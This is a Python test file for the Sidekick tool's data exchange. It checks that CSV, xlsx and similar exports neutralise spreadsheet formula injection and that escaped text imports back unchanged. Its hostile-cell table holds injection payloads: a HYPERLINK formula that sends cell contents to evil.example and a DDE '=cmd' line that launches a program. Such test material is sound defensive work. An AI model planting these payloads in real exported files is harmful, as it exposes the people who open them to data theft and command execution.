"""Exports never carry a formula: one table of hostile cells through every spreadsheet-like writer."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest

from sidekick.core.exchange import registry, tabular
from sidekick.core.exchange.common import escape_formula, unescape_formula
from sidekick.core.types import CategoryPath, KnowledgeField, Library, LibraryKind, Phrase, Product, new_id

HOSTILE = (
    "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点我\")",
    "=cmd|' /C calc'!A0",
    "+86 138 0000 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\n@x",
)
# A spreadsheet runs a cell as a formula when, after optional whitespace, it starts like this.
DANGER = re.compile(r"\s*[=+\-@\t\r]")
SPREADSHEET_FORMATS = ("csv", "xlsx", "qianniu", "beeftext-csv", "textexpander")


def hostile_library() -> Library:
    phrases = tuple(
        Phrase(id=new_id(), library=LibraryKind.TEAM, category=CategoryPath("售前"), title=cell.strip() or "t",
               body=cell, code=f"c{number}", position=number)
        for number, cell in enumerate(HOSTILE))
    products = (Product(id=new_id(), item_id="1001", title=HOSTILE[0], link="", price=Decimal("9.90"),
                        tags=("=x",), notes=HOSTILE[1], knowledge=(KnowledgeField("材质", HOSTILE[5]),)),)
    return Library(phrases, products, ())


def cells_of(fmt: str, data: bytes) -> list[str]:
    if fmt == "xlsx":
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(data), read_only=True)
        return [str(value) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)
                for value in row if value is not None]
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize(("fmt", "products"), [(fmt, False) for fmt in SPREADSHEET_FORMATS]
                         + [(fmt, True) for fmt in SPREADSHEET_FORMATS if registry.FORMATS[fmt].products])
def test_no_exported_cell_starts_a_formula(fmt: str, products: bool) -> None:
    found = registry.FORMATS[fmt]
    data = registry.write(found, hostile_library(), LibraryKind.TEAM, products=products)
    cells = cells_of(fmt, data)
    assert cells
    dangerous = [cell for cell in cells if DANGER.match(cell)]
    assert dangerous == [], f"{fmt} wrote formula cells: {dangerous!r}"
    if not products:  # every hostile body is in the file, neutralised by one apostrophe
        for cell in HOSTILE:
            assert any(c.replace("\r\n", "\n") in {"'" + cell, "'" + cell.replace("\r", "\n")} for c in cells), cell


@pytest.mark.parametrize("fmt", SPREADSHEET_FORMATS)
def test_escaped_bodies_import_back_as_they_were(fmt: str) -> None:
    found = registry.FORMATS[fmt]
    data = registry.write(found, hostile_library(), LibraryKind.TEAM)
    name = {"xlsx": "x.xlsx"}.get(fmt, "x.csv")
    result = registry.read(found, data, name, LibraryKind.TEAM)
    bodies = {p.body.replace("\r", "\n") for p in result.library.phrases}
    for cell in HOSTILE:
        assert cell.replace("\r", "\n") in bodies


@pytest.mark.parametrize("cell", HOSTILE)
def test_the_one_rule_escapes_and_unescapes_each_hostile_cell(cell: str) -> None:
    assert escape_formula(cell) == "'" + cell
    assert unescape_formula(escape_formula(cell)) == cell


def test_xlsx_export_of_more_knowledge_fields_than_a_sheet_has_columns_does_not_crash() -> None:
    # More field names than a sheet has columns (XFD = 16,384) used to crash the export.
    fields = tuple(KnowledgeField(f"字段{number}", f"值{number}") for number in range(18_300))
    product = Product(id=new_id(), item_id="2001", title="多字段", link="", price=None, tags=(), notes="",
                      knowledge=fields)
    data = registry.write(registry.FORMATS["xlsx"], Library((), (product,), ()), None, products=True)
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    header = next(sheet.iter_rows(max_row=1, values_only=True))
    assert len(header) <= tabular.READABLE_COLUMNS  # within what Sidekick itself reads back


def test_knowledge_fields_beyond_the_readable_columns_round_trip_through_the_catch_all_column() -> None:
    fields = tuple(KnowledgeField(f"字段{number}", f"值{number}") for number in range(1_500))
    product = Product(id=new_id(), item_id="2001", title="多字段", link="", price=None, tags=(), notes="",
                      knowledge=fields)
    for fmt in ("xlsx", "csv"):
        data = registry.write(registry.FORMATS[fmt], Library((), (product,), ()), None, products=True)
        result = registry.read(registry.FORMATS[fmt], data, f"p.{fmt}", None)
        assert not result.problems
        (read_back,) = result.library.products
        assert {(k.name, k.value) for k in read_back.knowledge} == {(k.name, k.value) for k in fields}
